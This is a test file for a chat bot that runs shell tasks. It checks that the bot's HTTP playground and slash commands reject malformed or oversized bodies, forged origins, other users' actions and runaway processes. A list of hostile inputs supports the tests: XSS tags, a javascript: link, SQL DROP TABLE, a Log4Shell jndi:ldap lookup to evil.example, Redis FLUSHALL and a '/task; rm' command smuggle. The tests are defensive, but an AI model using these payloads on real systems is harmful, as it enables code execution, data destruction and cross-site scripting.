import { readFile, writeFile } from 'node:fs/promises';
import { Agent, request } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type BotProcess, makeDataDir, startBot } from '../support/bot.ts';
import { type Message, People } from '../support/people.ts';
import { processesWith } from './processes.ts';
import { until } from './until.ts';

/** What must never be seen outside: a stack, a path of ours, or an error's class. */
const INSIDES = /\bat \S+ \(|node_modules|\/src\/|file:\/\/|\.ts:\d|ReplyError|TypeError|ZodError/;

const POSTS = ['messages', 'commands', 'actions', 'reactions'] as const;

let data: Awaited<ReturnType<typeof makeDataDir>>;
let bot: BotProcess;
let people: People;

beforeAll(async () => {
  data = await makeDataDir();
  bot = await startBot({ dataDir: data.dir });
  people = new People(bot.url);
}, 60_000);

afterAll(async () => {
  try {
    await expectWorking();
    expect(bot.log.filter((line) => /"level":(50|60)/.test(line))).toEqual([]);
  } finally {
    await bot.kill();
    await data.remove();
  }
}, 60_000);

/** The same process still does its main job. */
async function expectWorking(): Promise<void> {
  expect(bot.child.exitCode).toBeNull();
  const { thread } = await people.command('chloe', '/task', '"Still alive" bash "echo still alive"');
  await people.seesKind('chloe', String(thread), 'result');
}

type Refused = { status: number; code: string; message: string };

async function refused(path: string, body?: unknown, headers: Record<string, string> = {}): Promise<Refused> {
  const { status, body: answer } = await people.call(`/playground/${path}`, body, headers);
  return checked(status, answer);
}

function checked(status: number, answer: Record<string, unknown>): Refused {
  expect(Object.keys(answer)).toEqual(['error']);
  const { code, message } = answer['error'] as { code: string; message: string };
  expect(message.length).toBeLessThan(250);
  expect(message).not.toMatch(INSIDES);
  return { status, code, message };
}

/** Sends a body as it is, also one that is no JSON, with headers that `fetch` would not send. */
async function raw(
  path: string,
  body: string | Buffer,
  headers: Record<string, string> = {},
  agent: Agent | false = false,
): Promise<Refused> {
  const { promise, resolve, reject } = Promise.withResolvers<Refused>();
  const options = { method: 'POST', agent, headers: { 'content-type': 'application/json', ...headers } };
  const call = request(`${bot.url}/playground/${path}`, options, (response) => {
    let text = '';
    response.on('data', (chunk) => (text += chunk));
    response.on('end', () => {
      try {
        resolve(checked(response.statusCode ?? 0, JSON.parse(text)));
      } catch (error) {
        reject(error);
      }
    });
  });
  call.on('error', reject);
  call.end(body);
  return promise;
}

/** What a command says, which must be short and without insides. */
async function told(command: string, text: string, user = 'ana'): Promise<string> {
  const answer = await people.command(user, command, text);
  expect(answer.text.length).toBeLessThan(1_000);
  expect(answer.text).not.toMatch(INSIDES);
  return answer.text;
}

async function offered(command: string): Promise<{ thread: string; offer: Message }> {
  const { thread } = await people.say('ana', `@meanwhile run \`${command}\` in the background`);
  return { thread, offer: await people.seesKind('ana', thread, 'offer') };
}

describe('bodies', () => {
  test.each(POSTS)('POST /%s answers what is no JSON, is none of its form, or is too large', async (route) => {
    expect(await raw(route, '{"user": "ana"')).toMatchObject({
      status: 400,
      code: 'bad_json',
      message: /Send one JSON object/,
    });
    expect(await raw(route, '')).toMatchObject({ status: 400, code: 'bad_json' });
    expect(await raw(route, Buffer.from([0xff, 0xfe, 0x00, 0x80]))).toMatchObject({ status: 400, code: 'bad_json' });
    for (const body of [
      'null',
      '[]',
      '"text"',
      '42',
      '{}',
      '{"user": {"id": "ana"}}',
      '{"__proto__": {"user": "ana"}}',
    ]) {
      expect(await raw(route, body)).toMatchObject({ status: 400, code: 'bad_request' });
    }
    expect(await raw(route, `[${'['.repeat(50_000)}`)).toMatchObject({ status: 400 });
    const large = JSON.stringify({ channel: 'general', user: 'ana', text: 'x'.repeat(300 * 1024) });
    expect(await raw(route, large)).toMatchObject({ status: 413, code: 'too_large', message: /Send less at once/ });
    // Without a length told in advance it is counted as it comes.
    expect(await raw(route, large, { 'transfer-encoding': 'chunked' })).toMatchObject({
      status: 413,
      code: 'too_large',
    });
  });

  test('a body over the limit does not take the connection down for the call after it', async () => {
    const connection = new Agent({ keepAlive: true, maxSockets: 1 });
    const large = JSON.stringify({ channel: 'general', user: 'ana', text: 'x'.repeat(300 * 1024) });
    const first = raw('messages', large, { 'content-length': String(large.length) }, connection);
    expect(await first).toMatchObject({ status: 413 });
    expect(await raw('messages', '{}', {}, connection)).toMatchObject({ status: 400 });
    connection.destroy();
  });

  test.each(POSTS)('POST /%s takes nothing from other pages, by other names or of other types', async (route) => {
    const body = JSON.stringify({ channel: 'general', user: 'ana', text: '@meanwhile hi', command: '/task' });
    expect(await raw(route, body, { 'content-type': 'text/plain' })).toMatchObject({
      status: 415,
      message: /application\/json/,
    });
    expect(await raw(route, body, { origin: 'https://evil.example' })).toMatchObject({
      status: 403,
      code: 'forbidden_origin',
    });
    expect(await raw(route, body, { origin: 'null' })).toMatchObject({ status: 403, code: 'forbidden_origin' });
    expect(await raw(route, body, { 'sec-fetch-site': 'cross-site' })).toMatchObject({ status: 403 });
    expect(await raw(route, body, { host: 'evil.example' })).toMatchObject({ status: 403, code: 'forbidden_host' });
  });

  test('people, channels, threads, messages and buttons that there are not', async () => {
    const to = { channel: 'general', user: 'ana', text: 'hello' };
    for (const user of ['mallory', '__proto__', 'constructor', 'meanwhile', '']) {
      expect((await refused('messages', { ...to, user })).status).toBe(400);
    }
    for (const channel of ['nowhere', '__proto__', '../general', 'general/1', '%00']) {
      expect((await refused('messages', { ...to, channel })).status).toBe(404);
    }
    expect(await refused('messages', { ...to, channel: 'dm-ben' })).toMatchObject({
      status: 403,
      message: /somebody else/,
    });
    for (const thread of [
      'playground:general/999999',
      'playground:general/-1',
      'playground:dm-ben/1',
      'x',
      'playground:general/1e3',
    ]) {
      expect([403, 404]).toContain((await refused('messages', { ...to, thread })).status);
    }
    const { offer } = await offered('echo one');
    expect(
      await refused('actions', { message: 'playground:general/999999', action: 'start', user: 'ana' }),
    ).toMatchObject({ status: 404 });
    expect(await refused('actions', { message: offer.id, action: 'explode', user: 'ana' })).toMatchObject({
      status: 400,
      code: 'unknown_action',
    });
    expect(
      await refused('actions', { message: offer.id, action: 'start', value: 'zzz999', user: 'ana' }),
    ).toMatchObject({ status: 400 });
    expect(await refused('reactions', { message: offer.id, emoji: 'not one', user: 'ana' })).toMatchObject({
      status: 400,
      message: /one emoji/,
    });
    for (const path of [
      'state',
      'state?user=mallory',
      'channels/general',
      'threads/x?user=ana',
      'channels/nowhere?user=ana',
      'nothing',
    ]) {
      expect([400, 404]).toContain((await refused(path)).status);
    }
  });
});

describe('texts', () => {
  test('an empty one is refused, one of 100 KB is too long, one of 9,000 characters gets a word about it', async () => {
    for (const text of ['', '   ', '\n\t\n', '\u0000\u0001']) {
      const to = { channel: 'general', user: 'ana', text };
      expect(await refused('messages', to)).toMatchObject({ status: 400, code: 'empty', message: /Write something/ });
    }
    const large = { channel: 'general', user: 'ana', text: 'x'.repeat(100_000), command: '/task' };
    expect(await refused('messages', large)).toMatchObject({
      status: 413,
      message: /40,000 characters. Send it in parts/,
    });
    expect(await refused('commands', large)).toMatchObject({
      status: 413,
      message: /40,000 characters. Send it in parts/,
    });
    const { thread } = await people.say('ana', `@meanwhile ${'run the tests '.repeat(700)}`);
    const reply = await people.seesKind('ana', thread, 'reply');
    expect(reply.text).toMatch(/up to 8,000/);
    expect(await told('/task', 'word '.repeat(2_000))).toMatch(/up to 8,000/);
    expect(await told('/task', ' ')).toContain('/task --help');
  });

  test('whatever is written, there is an answer, it is harmless, and the next message is answered too', {
    timeout: 120_000,
  }, async () => {
    for (const text of HOSTILE) {
      const { thread } = await people.say('ana', `@meanwhile ${text}`);
      const answer = await people.sees(
        'ana',
        thread,
        ({ author }) => author.bot,
        `an answer to ${JSON.stringify(text.slice(0, 60))}`,
      );
      expect(answer.text).not.toMatch(INSIDES);
      expect(answer.text.length).toBeLessThan(4_000);
      const words = await people.command('ana', '/task', text);
      expect(words.text).not.toMatch(INSIDES);
    }
    await people.command('ana', '/workflows', 'all');
  });
});

/** Long ones are what a careless pattern takes minutes for; the others are what a careless renderer passes on. */
const HOSTILE = [
  '"'.repeat(7_999),
  '`'.repeat(7_999),
  `${'('.repeat(4_000)}${')'.repeat(3_000)}`,
  `run ${'a '.repeat(3_900)}`,
  'yes '.repeat(1_900),
  `\`${'x'.repeat(7_900)}\` in the background`,
  ' \u200b'.repeat(3_000),
  'wait 5 minutes and '.repeat(400),
  '[x]('.repeat(1_900),
  '\ud83d\ude00'.repeat(3_000),
  '\ud800 half a pair \udc00',
  '\u202egnp.exe\u202c run `echo hi` in the background',
  'Z̸̢̛̤̳̟͚̱̝̈́̂̓̀͐̅͝ä̷l̵g̶o̴',
  '<script>alert(1)</script> <img src=x onerror=alert(1)>',
  '@everyone @here <!channel> <@U123> run `echo hi` in the background',
  '[a bank](javascript:alert(1)) ![x](http://evil.example/x.png)',
  '\u0000\u0007\u001b[31mred\u001b[0m PNG\r\n\u001a\n\u0000\u0000\u0000 IHDR',
  "'; DROP TABLE runs; -- ${jndi:ldap://evil.example/a} {{7*7}} %s%n",
  '{"require":[],"write":[["FLUSHALL"]]}',
  '__proto__ constructor toString',
];

describe('commands', () => {
  test.each([
    ['/nosuch', '', /no command `\/nosuch`.*`\/task`/s],
    ['/tsak', 'sleep 1', /Did you mean `\/task`/],
    ['/constructor', '', /no command/],
    ['/task', 'sleep banana', /cannot work with that[\s\S]*How long\?[\s\S]*\/task sleep/],
    ['/task', 'sleep', /How long\?/],
    ['/task', 'sleep -5', /How long\?/],
    ['/task', 'bash', /Which command\?/],
    ['/task', '"Say hello bash echo', /quote/i],
    ['/task', '"Say hello" bash "echo hi', /quote/i],
    ['/task', '--priority banana sleep 3', /`high`, `normal` or `low`/],
    ['/task', '--priority', /needs a value/],
    ['/task', '--urgent sleep 3', /no option `--urgent`/],
    ['/task', 'slep 3', /sleep/],
    ['/cancel', 'zzzzzz', /know no run `zzzzzz`.*`\/workflows all`/s],
    ['/cancel', '__proto__', /know no run/],
    ['/cancel', 'a b c', /`|run/],
    ['/workflows', 'zzzzzz', /know no run `zzzzzz`/],
    ['/workflows', 'complted', /Did you mean/],
    ['/workflows', '--page 0', /page/i],
    ['/workflows', '--page banana', /page/i],
    ['/workflows', '--page 99999999999999999999', /page/i],
  ])('%s %s says what to do instead', async (command, text, says) => {
    expect(await told(command, text)).toMatch(says);
  });

  test('a name that is none of a command is refused as a body is', async () => {
    for (const command of ['task', '/', '/task; rm', '/../task', `/${'x'.repeat(100)}`]) {
      expect(await refused('commands', { channel: 'general', user: 'ana', command, text: '' })).toMatchObject({
        status: 400,
        message: /like "\/task"/,
      });
    }
  });

  test('what is done cannot be canceled, nor what belongs to somebody else', async () => {
    const done = await people.command('ana', '/task', '"Done soon" bash "true"');
    await people.seesKind('ana', String(done.thread), 'result');
    expect(await told('/cancel', String(done.run))).toMatch(/already completed.*nothing to stop/);
    const live = await people.command('ana', '/task', 'sleep 1h');
    expect(await told('/cancel', String(live.run), 'ben')).toBe('Only Ana can cancel this.');
    expect(await told('/cancel', String(live.run))).toContain('Stopping');
    await people.sees('ana', String(live.thread), ({ card }) => card?.status === 'canceled', 'a canceled card');
    expect(await told('/cancel', String(live.run))).toMatch(/already canceled/);
  });

  test('a run that printed nothing ends like any other, failed or canceled', async () => {
    const failed = await people.command('ana', '/task', '"Silent failure" bash "exit 7"');
    expect((await people.seesKind('ana', String(failed.thread), 'failure')).text).toMatch(/exit code 7/i);
    const canceled = await people.command('ana', '/task', '"Silent wait" bash "sleep 300"');
    await people.sees('ana', String(canceled.thread), ({ card }) => card?.status === 'running', 'a running card');
    await people.command('ana', '/cancel', String(canceled.run));
    await people.sees('ana', String(canceled.thread), ({ card }) => card?.status === 'canceled', 'a canceled card');
  });
});

describe('confirmations', () => {
  test('two at once start one run, and the second is told so', async () => {
    const { thread, offer } = await offered('echo twice');
    const answers = await Promise.all([people.press('ana', offer, 'start'), people.press('ana', offer, 'start')]);
    await people.seesKind('ana', thread, 'result');
    expect((await people.read('ana', thread)).filter(({ kind }) => kind === 'card')).toHaveLength(1);
    expect(answers.filter(({ text }) => text !== undefined)).toHaveLength(1);
    expect((await people.press('ana', offer, 'not_now')).text).toMatch(/started/);
  });

  test('by the wrong person, by word, button and reaction, none starts it', async () => {
    const { thread, offer } = await offered('echo mine');
    expect((await people.press('ben', offer, 'start')).text).toMatch(/^Only Ana can start this/);
    await people.react('ben', offer, '👍');
    await people.say('ben', 'yes', { thread });
    await people.seesKind('ben', thread, 'notice');
    expect((await people.read('ana', thread)).map(({ kind }) => kind)).not.toContain('card');
    await people.say('ana', 'yes', { thread });
    await people.seesKind('ana', thread, 'result');
  });
});

describe('commands that do not behave', () => {
  /** Starts it and waits until it has printed `begun`. */
  async function begun(name: string, command: string): Promise<{ run: string; thread: string }> {
    const { run, thread } = await people.command('ana', '/task', `"${name}" bash '${command}'`);
    await people.sees('ana', String(thread), ({ text }) => /^begun$/m.test(text), 'its output');
    return { run: String(run), thread: String(thread) };
  }

  async function canceled({ run, thread }: { run: string; thread: string }): Promise<void> {
    await people.command('ana', '/cancel', run);
    await people.sees('ana', thread, ({ kind, text }) => kind === 'reply' && text.includes('begun'), 'its last word');
    await people.sees('ana', thread, ({ card }) => card?.status === 'canceled', 'a canceled card');
  }

  test('one that ignores SIGTERM is stopped all the same', { timeout: 40_000 }, async () => {
    // The number is nobody else's.
    await canceled(await begun('Stubborn', 'trap "" TERM; echo begun; while true; do sleep 4321.1; done'));
    expect(await until('its end', () => processesWith('sleep', '4321.1').length === 0)).toBe(true);
  });

  test('children that got away by setsid go with it, when it is canceled and when it ends', {
    timeout: 40_000,
  }, async () => {
    const forks = 'setsid sleep 4321.2 & (setsid setsid sleep 4321.2 &) ; nohup sleep 4321.2 >/dev/null 2>&1 &';
    const run = await begun('Runaways', `${forks} echo begun; sleep 4321.2`);
    expect(await until('all four', () => processesWith('sleep', '4321.2').length >= 4)).toBe(true);
    await canceled(run);
    await until('their end', () => processesWith('sleep', '4321.2').length === 0);

    const ended = await begun('Left behind', `${forks.replaceAll('4321.2', '4321.3')} echo begun`);
    await people.seesKind('ana', ended.thread, 'result');
    await until('their end', () => processesWith('sleep', '4321.3').length === 0);
  });

  test('one that prints 100 MB holds nobody up, and its result says what was left out', {
    timeout: 120_000,
  }, async () => {
    const print =
      'head -c 100000000 /dev/zero | tr "\\0" x | fold -w 99; touch printed; until [ -e go ]; do sleep 0.1; done';
    const { run, thread } = await people.command('ana', '/task', `"Loud" bash '${print}; echo the last line'`);
    const folder = join(data.dir, 'runs', String(run));
    // It prints as long as this lasts; the others must not notice.
    const asked = async () => (await people.command('ben', '/workflows', String(run))).text;
    let answers = 0;
    await until(
      '100 MB',
      async () => {
        expect(await asked()).toContain(String(run));
        answers += 1;
        return readFile(join(folder, 'printed')).catch(() => undefined);
      },
      90_000,
    );
    expect(answers).toBeGreaterThan(0);
    const card = await people.sees('ana', String(thread), ({ kind }) => kind === 'card', 'a card');
    expect(card.card?.status).toBe('running');
    expect(card.text.length).toBeLessThan(5_000);
    await writeFile(join(folder, 'go'), '');

    const result = await people.seesKind('ana', String(thread), 'result');
    expect(result.text.length).toBeLessThan(8_000);
    expect(result.text).toContain('the last line');
    const [file] = result.files;
    expect(file?.name).toBe('output.txt');
    const text = await (await fetch(`${bot.url}${file?.url}`)).text();
    expect(text).toMatch(/\[\.\.\. [\d,]{9,} bytes left out here \.\.\.\]/);
    expect(text.trimEnd().endsWith('the last line')).toBe(true);
  });
});
